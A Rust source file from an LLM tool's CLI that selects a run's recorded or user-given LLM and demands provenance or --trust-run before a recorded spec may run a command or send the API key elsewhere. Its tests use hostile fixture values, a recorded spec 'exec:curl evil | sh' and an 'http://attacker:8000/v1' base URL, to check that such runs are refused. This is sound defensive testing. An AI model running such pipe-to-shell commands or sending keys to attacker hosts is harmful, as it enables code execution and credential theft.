//! The LLM of a run: what `kt transform` and `kt testgen` record of it in `run.json`, and which LLM a later
//! command on that run (`kt resume`, `kt replay --llm live`, `kt debug node --llm live`) uses: the recorded
//! one, unless the user names another (`--llm`, or `KT_LLM` in the environment), and then the command says
//! that the recorded one is overridden. Keys are never recorded; they are read from the environment again.

use std::path::Path;

use kt_llm::{LlmClient, LlmConfig, LlmError};

use kt_record::RunLlm;

/// The environment variable that names an LLM for one command (`KT_LLM=openai:gpt-4.1`).
const LLM_ENV: &str = "KT_LLM";

/// What a run records of the LLM `client` built from `config`.
pub fn recorded_llm(client: &LlmClient, config: &LlmConfig) -> RunLlm {
    RunLlm {
        provider: client.provider_name().into(),
        model: client.model().into(),
        spec: config.spec(),
        base_url: config.recorded_base_url(),
        stream: config.resolved().stream.filter(|s| !s),
    }
}

/// Where a command on an existing run got its LLM from.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum LlmOrigin {
    /// The spec recorded in `run.json`.
    Recorded(String),
    /// The user named one (`--llm` or `KT_LLM`); `recorded` is what the run recorded, if anything.
    Given {
        given: String,
        recorded: Option<String>,
    },
    /// A run that recorded no spec (made before it was recorded, or without an LLM): kt.toml, as for a new run.
    Configured,
    /// The spec recorded by a run this user did not provably make, used because of `--trust-run`; `risk` says
    /// what it does (the command it runs, where the key goes).
    Trusted { spec: String, risk: String },
}

/// Whether a command may use what a run recorded that runs a command or receives a key: `ours` is the run's
/// provenance check ([`kt_record::Provenance::check`]), `trust_run` the user's `--trust-run`.
#[derive(Debug, Clone)]
pub struct Consent {
    pub ours: Result<(), String>,
    pub trust_run: bool,
}

impl Consent {
    /// For the run `meta` describes, checked now.
    pub fn for_run(meta: &kt_record::RunMeta, trust_run: bool) -> Self {
        Self {
            ours: kt_record::Provenance::check(meta.provenance.as_ref(), &meta.run_id, &meta.llm),
            trust_run,
        }
    }
}

/// What using `recorded` would do that needs consent: run a command (`exec:`), or send the API key to a
/// recorded server (unless `KT_LLM_BASE_URL` replaces it). `None` when neither.
fn risk_of(recorded: &RunLlm) -> Option<String> {
    let spec = recorded.spec.as_deref()?;
    if let Some(command) = spec.strip_prefix("exec:") {
        return Some(format!("it runs the command `{command}`"));
    }
    if spec == "exec" {
        return Some("it runs the command kt.toml's [llm] section names".into());
    }
    match (&recorded.base_url, kt_llm::base_url_from_env()) {
        (Some(url), None) => Some(format!(
            "it sends your API key (if the provider uses one) to {url}"
        )),
        _ => None,
    }
}

impl LlmOrigin {
    /// One line for the user, naming the LLM (`described`) and where it came from; `None` when there is
    /// nothing to say (the user named the LLM the run recorded).
    pub fn notice(&self, described: &str) -> Option<String> {
        match self {
            LlmOrigin::Recorded(_) => Some(format!("LLM: {described} (recorded by the run)")),
            LlmOrigin::Given {
                given,
                recorded: Some(recorded),
            } if given != recorded => Some(format!(
                "LLM: {described}: `{given}` overrides the run's recorded LLM `{recorded}`"
            )),
            LlmOrigin::Given { .. } => None,
            LlmOrigin::Configured => Some(format!(
                "LLM: {described} (from kt.toml: this run recorded no LLM to continue with)"
            )),
            LlmOrigin::Trusted { risk, .. } => Some(format!(
                "LLM: {described} (recorded by a run you did not provably make; --trust-run: {risk})"
            )),
        }
    }
}

/// The LLM configuration for a command on a run that recorded `recorded`: `given` (a `--llm` flag), else
/// `KT_LLM`, else the run's own spec, base URL and streaming choice, else (runs that recorded none) the
/// configuration file. `KT_LLM_BASE_URL` wins over a recorded URL. kt.toml still supplies what a spec does not
/// say (timeouts, the key's variable, prices).
///
/// A recorded spec that runs a command or a recorded URL that would receive the key is used only with `consent`:
/// the run is provably this user's ([`Consent::ours`]) or the user passed `--trust-run`; otherwise the error says
/// what it would do and how to go on.
pub fn llm_for_run(
    recorded: &RunLlm,
    cwd: &Path,
    given: Option<&str>,
    consent: &Consent,
) -> Result<(LlmConfig, LlmOrigin), LlmError> {
    let from_env = std::env::var(LLM_ENV).ok().filter(|s| !s.trim().is_empty());
    if let Some(given) = given.map(str::to_string).or(from_env) {
        let config = LlmConfig::load_with(cwd, Some(&given), None)?;
        // Compared in recorded form: `scripted:a.toml` given is the recorded `scripted:/abs/a.toml`.
        let origin = LlmOrigin::Given {
            given: config.spec().unwrap_or(given),
            recorded: recorded.spec.clone(),
        };
        return Ok((config, origin));
    }
    let risk = risk_of(recorded);
    let origin = match (&recorded.spec, &risk, &consent.ours) {
        (Some(spec), None, _) | (Some(spec), Some(_), Ok(())) => LlmOrigin::Recorded(spec.clone()),
        (Some(spec), Some(risk), Err(why)) => {
            if !consent.trust_run {
                return Err(LlmError::Config {
                    detail: format!(
                        "not using the LLM this run recorded, `{spec}`: {risk}, and the run is not provably yours \
                         ({why})"
                    ),
                    fix: "read its run.json; if you trust it, pass --trust-run, or name the LLM yourself with \
                          --llm PROVIDER:MODEL (or KT_LLM)"
                        .into(),
                });
            }
            LlmOrigin::Trusted {
                spec: spec.clone(),
                risk: risk.clone(),
            }
        }
        (None, _, _) => LlmOrigin::Configured,
    };
    match &recorded.spec {
        Some(spec) => {
            let mut config = LlmConfig::load_with(cwd, Some(spec), recorded.base_url.as_deref())?;
            crate::run_llm_file::find_recorded_file(&mut config, spec, cwd)?;
            if recorded.stream == Some(false) {
                config.stream = Some(false);
            }
            Ok((config, origin))
        }
        None => Ok((
            LlmConfig::load_with(cwd, None, None)?,
            LlmOrigin::Configured,
        )),
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;

    fn recorded(spec: &str, base_url: Option<&str>) -> RunLlm {
        RunLlm {
            provider: spec.split(':').next().unwrap_or_default().into(),
            spec: Some(spec.into()),
            base_url: base_url.map(str::to_string),
            ..RunLlm::default()
        }
    }

    fn ours() -> Consent {
        Consent {
            ours: Ok(()),
            trust_run: false,
        }
    }

    #[test]
    fn a_recorded_command_or_url_of_a_run_not_provably_ours_needs_trust_run() {
        if !env_is_clear() {
            return;
        }
        let cwd = tempfile::tempdir().unwrap();
        let foreign = Consent {
            ours: Err("it was made by uid 4242".into()),
            trust_run: false,
        };
        for run in [
            recorded("exec:curl evil | sh", None),
            recorded("openai:gpt-4.1", Some("http://attacker:8000/v1")),
        ] {
            let err = llm_for_run(&run, cwd.path(), None, &foreign)
                .unwrap_err()
                .to_string();
            assert!(
                err.contains("--trust-run") && err.contains("uid 4242"),
                "{err}"
            );
            let trusted = Consent {
                trust_run: true,
                ..foreign.clone()
            };
            let (_, origin) = llm_for_run(&run, cwd.path(), None, &trusted).unwrap();
            let notice = origin.notice("x").unwrap();
            assert!(notice.contains("--trust-run"), "{notice}");
            assert!(
                notice.contains("curl evil") || notice.contains("http://attacker:8000/v1"),
                "{notice}"
            );
            // naming the LLM yourself needs no trust
            assert!(llm_for_run(&run, cwd.path(), Some("openai:gpt-4.1"), &foreign).is_ok());
        }
        // a provider's default server needs none either
        assert!(
            llm_for_run(
                &recorded("openai:gpt-4.1", None),
                cwd.path(),
                None,
                &foreign
            )
            .is_ok()
        );
    }

    // KT_LLM and KT_LLM_BASE_URL are process-wide: these tests hold only when neither is set.
    fn env_is_clear() -> bool {
        std::env::var_os(LLM_ENV).is_none() && kt_llm::base_url_from_env().is_none()
    }

    #[test]
    fn the_recorded_llm_is_used_without_a_flag_and_a_flag_overrides_it_and_says_so() {
        if !env_is_clear() {
            return;
        }
        let cwd = tempfile::tempdir().unwrap();
        let mut run = recorded("vllm:qwen3", Some("http://gpu-node:8000/v1"));
        run.stream = Some(false);
        let (config, origin) = llm_for_run(&run, cwd.path(), None, &ours()).unwrap();
        assert_eq!(config.spec().as_deref(), Some("vllm:qwen3"));
        assert_eq!(config.base_url.as_deref(), Some("http://gpu-node:8000/v1"));
        assert_eq!(config.stream, Some(false));
        assert_eq!(origin, LlmOrigin::Recorded("vllm:qwen3".into()));
        assert!(origin.notice("vllm qwen3").unwrap().contains("recorded"));

        let (config, origin) =
            llm_for_run(&run, cwd.path(), Some("openai:gpt-4.1"), &ours()).unwrap();
        assert_eq!(config.spec().as_deref(), Some("openai:gpt-4.1"));
        let notice = origin.notice("openai gpt-4.1").unwrap();
        assert!(
            notice.contains("overrides the run's recorded LLM `vllm:qwen3`"),
            "{notice}"
        );
        let same = LlmOrigin::Given {
            given: "vllm:qwen3".into(),
            recorded: Some("vllm:qwen3".into()),
        };
        assert_eq!(same.notice("x"), None);
    }

    #[test]
    fn a_run_without_a_recorded_spec_falls_back_to_the_configuration_and_says_so() {
        if !env_is_clear() {
            return;
        }
        let cwd = tempfile::tempdir().unwrap();
        let (_, origin) = llm_for_run(&RunLlm::none(), cwd.path(), None, &ours()).unwrap();
        assert_eq!(origin, LlmOrigin::Configured);
        assert!(origin.notice("none").unwrap().contains("recorded no LLM"));
    }

    #[test]
    fn a_recorded_llm_never_holds_a_key() {
        let mut config = LlmConfig::parse_spec("openai:gpt-4.1").unwrap();
        config.api_key_env = Some("MY_SECRET_KEY_VAR".into());
        config.api_key = Some(kt_llm::ApiKey::new("sk-very-secret"));
        let client = LlmClient::new(kt_llm::ScriptedProvider::from_answers(
            "x".into(),
            Vec::new(),
        ));
        let json = serde_json::to_string(&recorded_llm(&client, &config)).unwrap();
        assert!(!json.contains("sk-very-secret"), "{json}");
        assert!(!json.contains("MY_SECRET_KEY_VAR"), "{json}");
        assert!(json.contains("openai:gpt-4.1"), "{json}");
    }
}
